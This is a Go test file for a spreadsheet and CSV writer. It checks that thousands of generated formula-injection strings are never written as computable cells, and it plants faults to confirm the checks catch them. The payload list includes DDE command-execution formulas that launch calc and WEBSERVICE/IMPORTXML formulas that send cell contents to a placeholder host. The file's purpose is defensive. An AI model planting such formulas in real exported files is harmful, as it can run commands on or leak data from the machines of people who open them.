package xlsx

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
	"unicode"
)

// formulas are what a sheet would compute, or send, and what may stand before it to get by.
var (
	formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1;1)", `=HYPERLINK("http://kn.example";"xem")`, `=cmd|' /C calc'!A0`, `=WEBSERVICE("http://kn.example/"&A1)`, `-2+3+cmd|' /C calc'!A0`,
		`@IMPORTXML(CONCAT("http://kn.example/";A1);"//a")`, "=DDE(\"cmd\";\"/C calc\";\"x\")", "=A1\n=A2", "+84912345678", "-", "="}
	leads = []string{"", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\u200b", "\ufeff", "\u00a0", " ", "\"", "';", ";", ","}
)

// hostileTexts are n of them.
func hostileTexts(n int) []string {
	texts := make([]string, n)
	for i := range texts {
		texts[i] = leads[i%len(leads)] + leads[i/len(leads)%len(leads)] + formulas[i/len(leads)/len(leads)%len(formulas)]
		if i%3 == 2 {
			texts[i] = texts[i] + " số " + strconv.Itoa(i)
		}
	}
	return texts
}

// sheetOf writes texts as a workbook, eight in a row, also as the name of a sheet, a header and a note, and returns the part of its sheet.
func sheetOf(t *testing.T, texts []string) (part, styles string) {
	t.Helper()
	var out bytes.Buffer
	w := NewWriter(&out)
	w.Sheet(texts[0], SheetOptions{Freeze: 1, Filter: true})
	for at := 0; at < len(texts); at += 8 {
		row := make([]Value, 8)
		for i := range row {
			if row[i] = Text(texts[at+i]); at == 0 {
				row[i] = row[i].Header()
			}
		}
		if err := w.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return partOf(t, out.Bytes(), sheetPart), partOf(t, out.Bytes(), "xl/styles.xml")
}

func partOf(t *testing.T, b []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// computed reads a sheet as XML, without the reader of this package, and says which cells a program could compute: a formula, a text that is
// not kept as one, one that would become a formula when somebody edits its cell, or that hides how it begins.
func computed(t *testing.T, part, styles string) (cells int, found []string) {
	t.Helper()
	type cell struct {
		Ref     string  `xml:"r,attr"`
		Type    string  `xml:"t,attr"`
		Style   int     `xml:"s,attr"`
		Formula *string `xml:"f"`
		Value   *string `xml:"v"`
		Text    string  `xml:"is>t"`
	}
	var sheet struct {
		Cells []cell `xml:"sheetData>row>c"`
	}
	var look struct {
		Forms []struct {
			Quoted bool `xml:"quotePrefix,attr"`
		} `xml:"cellXfs>xf"`
	}
	if err := xml.Unmarshal([]byte(styles), &look); err != nil {
		t.Fatal(err)
	}
	if err := xml.Unmarshal([]byte(part), &sheet); err != nil {
		t.Fatal(err)
	}
	for _, c := range sheet.Cells {
		cells++
		first := []rune(c.Text + " ")[0]
		switch {
		case c.Formula != nil:
			found = append(found, c.Ref+" is a formula")
		case c.Type != "inlineStr" || c.Value != nil:
			found = append(found, fmt.Sprintf("%s is no text: %q", c.Ref, c.Type))
		case unicode.IsControl(first):
			found = append(found, fmt.Sprintf("%s begins with %q", c.Ref, first))
		case strings.ContainsRune("=+-@", first) && !look.Forms[c.Style].Quoted:
			found = append(found, fmt.Sprintf("%s is not quoted: %q", c.Ref, c.Text))
		}
	}
	return cells, found
}

// computedCSV says which fields of a CSV text a program could compute.
func computedCSV(t *testing.T, text string) (fields int, found []string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, f := range row {
			fields++
			bare := strings.TrimLeftFunc(f, func(r rune) bool { return !unicode.IsGraphic(r) || unicode.IsSpace(r) })
			if bare != "" && strings.ContainsRune("=+-@", []rune(bare)[0]) || f != "" && strings.ContainsRune("\t\r\n", rune(f[0])) {
				found = append(found, fmt.Sprintf("%q", f))
			}
		}
	}
	return fields, found
}

func csvOf(t *testing.T, texts []string, field func(string) string) string {
	t.Helper()
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	for at := 0; at < len(texts); at += 8 {
		row := make([]string, 8)
		for i := range row {
			row[i] = field(texts[at+i])
		}
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	return out.String()
}

// TestFormulas: no cell that is written is computed where the file is opened.
func TestFormulas(t *testing.T) {
	texts := hostileTexts(8000)
	part, styles := sheetOf(t, texts)
	cells, found := computed(t, part, styles)
	fields, also := computedCSV(t, csvOf(t, texts, CSVText))
	t.Logf("%d cells and %d fields tried, %d accepted", cells, fields, len(found)+len(also))
	for n, what := range append(found, also...) {
		if n < 20 {
			t.Error(what)
		}
	}
	if cells+fields < 10_000 {
		t.Errorf("only %d cells", cells+fields)
	}
	few := hostileTexts(1600)
	part, styles = sheetOf(t, few)
	for name, bent := range map[string]string{
		"a text that begins with = is a formula": strings.ReplaceAll(part, `t="inlineStr"><is><t>=1+1</t></is>`, `><f>1+1</f>`),
		"a text that looks like a number is one": strings.ReplaceAll(part, `t="inlineStr"><is><t>=1+1</t></is>`, `><v>2</v>`),
		"a text is the result of a formula":      strings.ReplaceAll(part, `t="inlineStr"><is><t>=1+1</t></is>`, `t="str"><v>2</v>`),
		"control characters stay in front":       strings.ReplaceAll(part, `<is><t>=`, "<is><t>\t="),
		"texts are not quoted":                   strings.ReplaceAll(part, ` s="`+strconv.Itoa(int(formQuote)*looks)+`"`, ""),
	} {
		if _, found := computed(t, bent, styles); len(found) == 0 || bent == part {
			t.Errorf("planted: %s: not found", name)
		}
	}
	for name, field := range map[string]func(string) string{
		"fields as they are":       func(s string) string { return s },
		"only the first character": func(s string) string { return map[bool]string{true: "'"}[strings.HasPrefix(s, "=")] + s },
		"blanks are cut off":       strings.TrimSpace,
	} {
		if _, found := computedCSV(t, csvOf(t, few, field)); len(found) == 0 {
			t.Errorf("planted: %s: not found", name)
		}
	}
}
